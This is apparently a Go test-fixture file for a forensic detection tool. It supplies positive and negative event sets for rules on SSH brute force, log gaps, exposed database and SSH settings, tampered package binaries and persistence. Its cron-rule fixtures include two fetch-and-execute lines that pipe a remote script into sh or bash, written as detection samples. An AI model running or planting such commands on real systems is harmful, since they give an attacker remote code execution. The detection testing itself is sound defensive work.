package findings

import (
	"fmt"
	"time"

	"github.com/cordon-forensics/cordon/timeline"
)

var t0 = time.Date(2026, 11, 20, 3, 0, 0, 0, time.UTC)

func state(dataset, action string, labels map[string]string) timeline.Event {
	return timeline.Event{Timestamp: t0, Message: dataset + " " + action,
		Event:  timeline.EventFields{Kind: "state", Dataset: dataset, Action: action},
		Labels: labels,
		Cordon: timeline.Cordon{Provenance: timeline.Provenance{Bundle: "EV-1", Entry: "fs/etc/x", Line: 1}}}
}

func fileEv(path, action string, at time.Time) timeline.Event {
	return timeline.Event{Timestamp: at, Message: "file " + path,
		Event:  timeline.EventFields{Dataset: "filetimeline", Action: action},
		File:   &timeline.File{Path: path},
		Cordon: timeline.Cordon{TimeMeaning: timeline.MeaningModified, Provenance: timeline.Provenance{Bundle: "EV-1", Entry: "filetimeline/records-00001.jsonl", Line: 3}}}
}

func login(dataset, action, outcome, user, ip string, at time.Duration, line int64) timeline.Event {
	ev := timeline.Event{Timestamp: t0.Add(at), Message: fmt.Sprintf("%s %s %s from %s", action, outcome, user, ip),
		Event:  timeline.EventFields{Dataset: dataset, Action: action, Outcome: outcome, Category: []string{"authentication"}},
		Cordon: timeline.Cordon{Provenance: timeline.Provenance{Bundle: "EV-1", Entry: "fs/var/log/auth.log", Line: line}}}
	if user != "" {
		ev.User = &timeline.User{Name: user}
	}
	if ip != "" {
		ev.Source = &timeline.Endpoint{IP: ip, Port: 40000}
	}
	return ev
}

// attempts makes n failed SSH logins from ip, one every step.
func attempts(n int, ip string, step time.Duration) []timeline.Event {
	var out []timeline.Event
	for i := 0; i < n; i++ {
		out = append(out, login("auth", "ssh-login", "failure", []string{"root", "admin", "oracle"}[i%3], ip, time.Duration(i)*step, int64(i+1)))
	}
	return out
}

func logLine(entry string, at time.Duration, line int64) timeline.Event {
	return timeline.Event{Timestamp: t0.Add(at), Message: "line",
		Event:  timeline.EventFields{Dataset: "syslog", Action: "log-line"},
		Cordon: timeline.Cordon{Provenance: timeline.Provenance{Bundle: "EV-1", Entry: entry, Line: line}}}
}

// lines writes n lines into entry from `from`, one every step, skipping (gapFrom, gapTo).
func lines(entry string, n int, step, gapFrom, gapTo time.Duration) []timeline.Event {
	var out []timeline.Event
	for i := 0; i < n; i++ {
		at := time.Duration(i) * step
		if at > gapFrom && at < gapTo {
			continue
		}
		out = append(out, logLine(entry, at, int64(i+1)))
	}
	return out
}

func collectionEnd(at time.Time) timeline.Event {
	return timeline.Event{Timestamp: at, Event: timeline.EventFields{Dataset: "collection", Action: "collection-finished"},
		Cordon: timeline.Cordon{Provenance: timeline.Provenance{Bundle: "EV-1", Entry: "manifest.json"}}}
}

func md5Ev(dataset, path, sum string) timeline.Event {
	return timeline.Event{Timestamp: t0, Message: dataset + " " + path,
		Event:  timeline.EventFields{Dataset: dataset, Action: map[string]string{"dpkg": "package-file-md5", "filetimeline": "file-mtime"}[dataset]},
		File:   &timeline.File{Path: path, Hash: &timeline.Hash{MD5: sum}},
		Labels: map[string]string{"package.name": "procps"},
		Cordon: timeline.Cordon{Provenance: timeline.Provenance{Bundle: "EV-1", Entry: "fs/var/lib/dpkg/info/procps.md5sums", Line: 2}}}
}

func md5Pkg(path, sum, pkg string) timeline.Event {
	ev := md5Ev("dpkg", path, sum)
	ev.Labels = map[string]string{"package.name": pkg}
	return ev
}

func divert(from, to, by string) timeline.Event {
	return timeline.Event{Timestamp: t0, Message: "diversion " + from,
		Event:  timeline.EventFields{Dataset: "dpkg", Action: "package-diversion"},
		File:   &timeline.File{Path: from},
		Labels: map[string]string{"diversion.to": to, "diversion.by": by},
		Cordon: timeline.Cordon{Provenance: timeline.Provenance{Bundle: "EV-1", Entry: "fs/var/lib/dpkg/diversions", Line: 1}}}
}

func cat(parts ...[]timeline.Event) []timeline.Event {
	var out []timeline.Event
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

// checkCases: for every check rule, event sets it must find something in
// and sets it must not.
var checkCases = map[string]struct{ pos, neg [][]timeline.Event }{
	"CORDON-ACC-001": {
		pos: [][]timeline.Event{cat(attempts(10, "203.0.113.7", time.Second), []timeline.Event{login("auth", "ssh-login", "success", "deploy", "203.0.113.7", time.Minute, 99)})},
		neg: [][]timeline.Event{
			cat(attempts(9, "203.0.113.7", time.Second), []timeline.Event{login("auth", "ssh-login", "success", "deploy", "203.0.113.7", time.Minute, 99)}),
			cat(attempts(10, "203.0.113.7", time.Second), []timeline.Event{login("auth", "ssh-login", "success", "deploy", "198.51.100.1", time.Minute, 99)}),
			cat(attempts(10, "203.0.113.7", 10*time.Minute), []timeline.Event{login("auth", "ssh-login", "success", "deploy", "203.0.113.7", 3*time.Hour, 99)}),
		},
	},
	"CORDON-ACC-002": {
		pos: [][]timeline.Event{attempts(10, "203.0.113.7", time.Second)},
		neg: [][]timeline.Event{attempts(9, "203.0.113.7", time.Second), cat(attempts(10, "203.0.113.7", time.Second), []timeline.Event{login("auth", "ssh-login", "success", "deploy", "203.0.113.7", time.Minute, 99)})},
	},
	"CORDON-PG-002": {
		pos: [][]timeline.Event{func() []timeline.Event {
			var out []timeline.Event
			for i := 0; i < 12; i++ {
				out = append(out, login("postgresql", "authentication-failed", "failure", "postgres", "203.0.113.8", time.Duration(i)*time.Second, int64(i)))
			}
			return out
		}()},
		neg: [][]timeline.Event{attempts(12, "203.0.113.8", time.Second)},
	},
	"CORDON-ACC-003": {
		pos: [][]timeline.Event{{login("auth", "ssh-login", "success", "deploy", "198.51.100.1", 0, 1), login("auth", "ssh-login", "success", "deploy", "203.0.113.9", 8*24*time.Hour, 2)}},
		neg: [][]timeline.Event{
			{login("auth", "ssh-login", "success", "deploy", "198.51.100.1", 0, 1), login("auth", "ssh-login", "failure", "deploy", "203.0.113.9", time.Hour, 2), login("auth", "ssh-login", "success", "deploy", "203.0.113.9", 8*24*time.Hour, 3)},
			{login("auth", "ssh-login", "success", "deploy", "198.51.100.1", 0, 1), login("auth", "ssh-login", "success", "deploy", "203.0.113.9", 6*24*time.Hour, 2)},
		},
	},
	"CORDON-ACC-004": {
		pos: [][]timeline.Event{{login("wtmp", "system-boot", "", "reboot", "", 0, 1), login("auth", "ssh-login", "success", "deploy", "203.0.113.9", time.Hour, 2)}},
		neg: [][]timeline.Event{
			{login("wtmp", "system-boot", "", "reboot", "", 0, 1), login("wtmp", "user-login", "success", "deploy", "203.0.113.9", time.Hour, 2), login("auth", "ssh-login", "success", "deploy", "203.0.113.9", time.Hour, 2)},
			{login("wtmp", "system-boot", "", "reboot", "", 0, 1)},
		},
	},
	"CORDON-ACC-005": {
		pos: [][]timeline.Event{{login("wtmp", "user-login", "success", "deploy", "203.0.113.9", 0, 1), login("auth", "ssh-login", "success", "root", "203.0.113.9", time.Hour, 2)}},
		neg: [][]timeline.Event{
			{login("wtmp", "user-login", "success", "root", "203.0.113.9", time.Hour+time.Minute, 1), login("auth", "ssh-login", "success", "root", "203.0.113.9", time.Hour, 2)},
			{login("auth", "ssh-login", "success", "root", "203.0.113.9", time.Hour, 2)},
		},
	},
	"CORDON-ACC-007": {
		pos: [][]timeline.Event{
			// a later login than lastlog keeps
			{login("lastlog", "last-login", "success", "deploy", "198.51.100.1", 0, 1), login("auth", "ssh-login", "success", "deploy", "203.0.113.9", time.Hour, 2)},
			// a login lastlog keeps, inside the logs' span, that they lack
			cat(lines("fs/var/log/auth.log", 180, time.Minute, 0, 0), []timeline.Event{login("lastlog", "last-login", "success", "root", "203.0.113.9", time.Hour, 1)}),
		},
		neg: [][]timeline.Event{
			{login("lastlog", "last-login", "success", "deploy", "203.0.113.9", time.Hour, 1), login("auth", "ssh-login", "success", "deploy", "203.0.113.9", time.Hour+30*time.Second, 2)},
			cat(lines("fs/var/log/auth.log", 180, time.Minute, 0, 0), []timeline.Event{login("lastlog", "last-login", "success", "root", "203.0.113.9", -5*time.Hour, 1)}),
			{login("lastlog", "last-login", "success", "deploy", "203.0.113.9", 0, 1), login("auth", "ssh-login", "success", "root", "203.0.113.9", time.Hour, 2)},
		},
	},
	"CORDON-ACC-008": {
		pos: [][]timeline.Event{cat(
			[]timeline.Event{login("btmp", "login-failed", "failure", "root", "198.51.100.1", 0, 1), login("btmp", "login-failed", "failure", "root", "198.51.100.1", time.Hour, 2)},
			attempts(6, "203.0.113.7", time.Minute))},
		neg: [][]timeline.Event{
			// btmp has them
			func() []timeline.Event {
				evs := attempts(6, "203.0.113.7", time.Minute)
				for i := range evs {
					b := evs[i]
					b.Event.Dataset = "btmp"
					evs = append(evs, b)
				}
				return evs
			}(),
			// outside btmp's span (rotated away)
			cat([]timeline.Event{login("btmp", "login-failed", "failure", "root", "198.51.100.1", 2*time.Hour, 1)}, attempts(6, "203.0.113.7", time.Minute)),
			// no btmp at all
			attempts(6, "203.0.113.7", time.Minute),
			// fewer than min
			cat([]timeline.Event{login("btmp", "login-failed", "failure", "root", "198.51.100.1", 0, 1), login("btmp", "login-failed", "failure", "root", "198.51.100.1", time.Hour, 2)},
				attempts(4, "203.0.113.7", time.Minute)),
		},
	},
	"CORDON-ACC-006": {
		pos: [][]timeline.Event{cat(lines("fs/var/log/auth.log", 1000, time.Minute, 60*time.Minute, 60*time.Minute+7*time.Hour), lines("fs/var/log/syslog", 1000, time.Minute, 0, 0))},
		neg: [][]timeline.Event{
			cat(lines("fs/var/log/auth.log", 200, time.Minute, 0, 0), lines("fs/var/log/syslog", 200, time.Minute, 0, 0)),
			// a quiet night in every log is not a gap in one
			cat(lines("fs/var/log/auth.log", 1000, time.Minute, 60*time.Minute, 60*time.Minute+7*time.Hour), lines("fs/var/log/syslog", 1000, time.Minute, 60*time.Minute, 60*time.Minute+7*time.Hour)),
		},
	},
	"CORDON-PER-001": {
		pos: [][]timeline.Event{{fileEv("/etc/cron.d/update", "file-mtime", t0.Add(-48*time.Hour)), collectionEnd(t0)}, {fileEv("/root/.ssh/authorized_keys", "file-ctime", t0.Add(-time.Hour)), collectionEnd(t0)}},
		neg: [][]timeline.Event{{fileEv("/etc/cron.d/update", "file-mtime", t0.Add(-30*24*time.Hour)), collectionEnd(t0)}, {fileEv("/etc/hostname", "file-mtime", t0.Add(-time.Hour)), collectionEnd(t0)}},
	},
	"CORDON-EXP-009": {
		pos: [][]timeline.Event{{state("firewall", "firewall-rules", map[string]string{"rules": "0"})}},
		neg: [][]timeline.Event{{state("firewall", "firewall-rules", map[string]string{"rules": "0"}), state("firewall", "firewall-rules", map[string]string{"rules": "12"})}, {}},
	},
	"CORDON-INT-001": {
		pos: [][]timeline.Event{
			{md5Ev("dpkg", "/usr/bin/ps", "aaaa"), md5Ev("filetimeline", "/usr/bin/ps", "bbbb")},
			// the file a diversion moved aside was altered
			{md5Pkg("/usr/bin/pg_config", "aaaa", "libpq-dev"), md5Pkg("/usr/bin/pg_config", "cccc", "postgresql-common"),
				divert("/usr/bin/pg_config", "/usr/bin/pg_config.libpq-dev", "postgresql-common"),
				md5Ev("binaries", "/usr/bin/pg_config", "cccc"), md5Ev("binaries", "/usr/bin/pg_config.libpq-dev", "bbbb")},
		},
		neg: [][]timeline.Event{
			{md5Ev("dpkg", "/usr/bin/ps", "aaaa"), md5Ev("filetimeline", "/usr/bin/ps", "aaaa")},
			{md5Ev("filetimeline", "/tmp/x", "bbbb")},
			// a diverted path holds the diverting package's file, and the moved one is intact
			{md5Pkg("/usr/bin/pg_config", "aaaa", "libpq-dev"), divert("/usr/bin/pg_config", "/usr/bin/pg_config.libpq-dev", "postgresql-common"),
				md5Ev("binaries", "/usr/bin/pg_config", "zzzz"), md5Ev("binaries", "/usr/bin/pg_config.libpq-dev", "aaaa")},
			// the administrator's own diversion
			{md5Pkg("/usr/bin/ps", "aaaa", "procps"), divert("/usr/bin/ps", "/usr/bin/ps.real", ":"),
				md5Ev("binaries", "/usr/bin/ps", "wrap"), md5Ev("binaries", "/usr/bin/ps.real", "aaaa")},
			// two packages list one path: either sum will do
			{md5Pkg("/usr/share/doc/x", "aaaa", "x-amd64"), md5Pkg("/usr/share/doc/x", "bbbb", "x-i386"), md5Ev("filetimeline", "/usr/share/doc/x", "bbbb")},
		},
	},
}

func init() {
	cases["CORDON-EXP-002"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{state("pg_hba", "pg-hba-rule", map[string]string{"trust_non_local": "true", "hba.method": "trust"})},
		neg: []timeline.Event{state("pg_hba", "pg-hba-rule", map[string]string{"trust_non_local": "false", "hba.method": "trust"})},
	}
	cases["CORDON-EXP-003"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{state("postgresql_conf", "postgresql-setting", map[string]string{"setting": "listen_addresses", "value": "*", "all_interfaces": "true"})},
		neg: []timeline.Event{state("postgresql_conf", "postgresql-setting", map[string]string{"setting": "listen_addresses", "value": "localhost", "all_interfaces": "false"})},
	}
	cases["CORDON-EXP-004"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{state("docker_config", "container-config", map[string]string{"env.POSTGRES_HOST_AUTH_METHOD": "trust"})},
		neg: []timeline.Event{state("docker_config", "container-config", map[string]string{"env.POSTGRES_HOST_AUTH_METHOD": "scram-sha-256"}), state("docker_config", "container-config", nil)},
	}
	cases["CORDON-EXP-005"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{state("docker_config", "container-port-binding", map[string]string{"all_interfaces": "true"})},
		neg: []timeline.Event{state("docker_config", "container-port-binding", map[string]string{"all_interfaces": "false"})},
	}
	cases["CORDON-EXP-006"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{state("docker_daemon", "docker-daemon-host", map[string]string{"exposed": "true"})},
		neg: []timeline.Event{state("docker_daemon", "docker-daemon-host", map[string]string{"exposed": "false"})},
	}
	cases["CORDON-EXP-007"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{state("sshd_config", "sshd-option", map[string]string{"sshd.keyword": "PermitRootLogin", "sshd.value": "yes"})},
		neg: []timeline.Event{state("sshd_config", "sshd-option", map[string]string{"sshd.keyword": "PermitRootLogin", "sshd.value": "prohibit-password"})},
	}
	cases["CORDON-EXP-008"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{state("sshd_config", "sshd-option", map[string]string{"sshd.keyword": "passwordauthentication", "sshd.value": "Yes"})},
		neg: []timeline.Event{state("sshd_config", "sshd-option", map[string]string{"sshd.keyword": "PasswordAuthentication", "sshd.value": "no"})},
	}
	cases["CORDON-PER-002"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{fileEv("/etc/ld.so.preload", "file-mtime", t0)},
		neg: []timeline.Event{fileEv("/etc/ld.so.conf", "file-mtime", t0), fileEv("/etc/ld.so.preload", "file-atime", t0)},
	}
	cron := func(line string) timeline.Event {
		ev := state("cron", "crontab-entry", nil)
		ev.Message = "crontab /etc/crontab: " + line
		return ev
	}
	cases["CORDON-PER-003"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{cron("*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh"), cron("@reboot root wget -q -O- http://x/m | bash")},
		neg: []timeline.Event{cron("17 * * * * root cd / && run-parts --report /etc/cron.hourly"), cron("0 3 * * * root curl -o /var/backups/db.sql http://backup/")},
	}
}
